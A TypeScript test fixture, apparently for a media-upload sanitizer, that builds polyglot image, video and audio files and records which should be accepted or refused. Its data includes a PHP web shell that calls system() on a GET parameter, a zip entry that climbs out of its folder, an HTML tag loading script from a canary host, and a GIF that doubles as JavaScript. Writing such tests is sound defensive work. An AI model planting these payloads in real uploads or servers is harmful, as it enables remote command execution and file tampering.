import { pngChunk, withPngChunk } from './png-bytes.ts';
import { join, latin, littleUint32 } from './bytes.ts';
import { accepted, hostileFile, refused } from './hostile-file.ts';
import { box } from './mp4-bytes.ts';
import { jpegSegment, withJpegSegments } from './odd-pictures.ts';
import { secret } from './canaries.ts';
import type { BaseMovies } from './base-movies.ts';
import type { BasePictures } from './base-pictures.ts';
import type { Canaries } from './canaries.ts';
import type { HostileFile, Outcome } from './hostile-file.ts';

/** A zip archive with one entry that climbs out of its folder. */
function zip(): Buffer {
  const name = '../../outside.txt';
  const sizes = join(Buffer.alloc(4), littleUint32(secret.length), littleUint32(secret.length));
  const nameLength = join(Buffer.from([name.length, 0, 0, 0]));
  const local = join('PK\x03\x04\x0a\0\0\0\0\0\0\0\0\0', sizes, nameLength, name, secret);
  const central = join('PK\x01\x02\x0a\0\x0a\0\0\0\0\0\0\0\0\0', sizes, nameLength, Buffer.alloc(14), name);
  const end = join('PK\x05\x06\0\0\0\0\x01\0\x01\0', littleUint32(central.length), littleUint32(local.length), '\0\0');
  return join(local, central, end);
}

/**
 * Files that are two things at once. What the first bytes say is what they are; it is written anew, so the other thing
 * is gone. Where the first bytes say nothing we open, the file is refused.
 */
export function polyglots(pictures: BasePictures, movies: BaseMovies, canaries: Canaries): HostileFile[] {
  const { jpeg, png, gif, webp, avif } = pictures;
  const page = `<!doctype html><html><body><script src="http://${canaries.host}/x.js">/*${secret}*/</script></body></html>`;
  const script = `\n<?php system($_GET["${secret}"]); ?>`;
  const list = `\n#EXTM3U\n#EXTINF:1,\nfile://${canaries.pipePath}\n#EXT-X-ENDLIST\n`;
  const picture = accepted('image', 60, 40);
  const video = accepted('video', 96, 64);
  const sound = accepted('audio');
  // A GIF whose screen is 0x2A2F wide: its first bytes are also the beginning of a comment in JavaScript.
  const gifScript = join('GIF89a/*', gif.subarray(8), `*/=1;alert("${secret}");`);
  const rows: [string, string, Outcome, Uint8Array][] = [
    ['JPEG and zip', 'a.jpg', picture, join(jpeg, zip())],
    ['JPEG and HTML', 'a.html', picture, join(jpeg, page)],
    ['JPEG with HTML inside', 'a.jpg', picture, withJpegSegments(jpeg, jpegSegment(0xfe, latin(page)))],
    ['JPEG and PHP', 'a.php.jpg', picture, withJpegSegments(jpeg, jpegSegment(0xfe, latin(script)))],
    [
      'JPEG with a PDF inside',
      'a.pdf',
      picture,
      withJpegSegments(jpeg, jpegSegment(0xfe, latin(`%PDF-1.4\n1 0 obj<<>>endobj ${secret}`))),
    ],
    ['PDF and JPEG', 'a.jpg', refused.unknown, join('%PDF-1.4\n', jpeg)],
    ['zip and JPEG', 'a.jpg', refused.unknown, join(zip(), jpeg)],
    ['PNG and HTML', 'a.png', picture, join(png, page)],
    ['PNG with HTML inside', 'a.html', picture, withPngChunk(png, pngChunk('tEXt', join('html\0', page)))],
    ['PNG and PHP', 'a.php', picture, join(png, script)],
    ['PNG and zip', 'a.jar', picture, join(png, zip())],
    ['PNG and HLS', 'a.m3u8', picture, join(png, list)],
    ['GIF and JavaScript', 'a.js', { accepted: 'image' }, gifScript],
    ['GIF and zip', 'a.gif', picture, join(gif, zip())],
    ['WebP and HTML', 'a.webp', picture, join(webp, page)],
    ['AVIF and HTML', 'a.avif', picture, join(avif, box('free', page))],
    ['HTML and PNG', 'a.png', refused.unknown, join(page, png)],
    ['MP4 and HTML', 'a.html', video, join(movies.mp4, box('free', page))],
    [
      'MP4 with HTML in front, its frames not where they are said to be',
      'a.mp4',
      refused.video,
      join(box('ftyp', 'isom\0\0\x02\0isom'), box('free', page), movies.mp4),
    ],
    ['MP4 and HLS', 'a.m3u8', video, join(movies.mp4, list)],
    ['MP4 and zip', 'a.zip', video, join(movies.mp4, zip())],
    ['WebM and HTML', 'a.webm', video, join(movies.webm, page)],
    ['MP3 and zip', 'a.mp3', sound, join(movies.mp3, zip())],
    ['MP3 and HLS', 'a.mp3', sound, join(movies.mp3, list)],
    ['WAV and HTML', 'a.wav', sound, join(movies.wav, page)],
    ['FLAC and HLS', 'a.flac', sound, join(movies.flac, list)],
    ['Ogg and HTML', 'a.ogg', sound, join(movies.vorbis, page)],
    ['HLS and MP4', 'a.mp4', refused.unknown, join(list.trimStart(), movies.mp4)],
    ['a program called .png', 'a.png', refused.unknown, join('\x7fELF\x02\x01\x01', Buffer.alloc(500))],
    ['a Windows program called .mp4', 'a.mp4', refused.unknown, join('MZ\x90\0', Buffer.alloc(500))],
    ['a zip archive called .mp4', 'a.mp4', refused.unknown, zip()],
    ['a font called .png', 'a.png', refused.unknown, join('\0\x01\0\0\0\x0a', Buffer.alloc(500))],
  ];
  return rows.map(([title, name, expected, bytes]) => hostileFile({ title, name, expected, bytes }));
}
